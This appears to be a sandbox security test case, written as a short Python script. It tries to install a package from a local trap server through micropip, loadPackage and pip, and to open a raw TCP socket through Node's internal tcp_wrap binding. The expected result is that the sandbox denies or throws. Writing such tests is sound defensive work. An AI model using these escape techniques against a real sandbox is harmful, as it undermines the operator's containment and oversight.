# attack {"class":"network","attempt":"a package from a server, with micropip, loadPackage and pip","effect":"network","ends":["denied","threw"],"bare":true}
import importlib
for name in ("micropip", "pyodide_js", "pip", "ensurepip"):
    try:
        module = importlib.import_module(name)
        getattr(module, "install", getattr(module, "loadPackage", print))("http://127.0.0.1:{{trap.port}}/a-1.0-py3-none-any.whl")
    except Exception:
        pass
import js
tcp = js.process.binding("tcp_wrap")
tcp.TCP.new(0).connect(tcp.TCPConnectWrap.new(), "127.0.0.1", {{trap.port}})
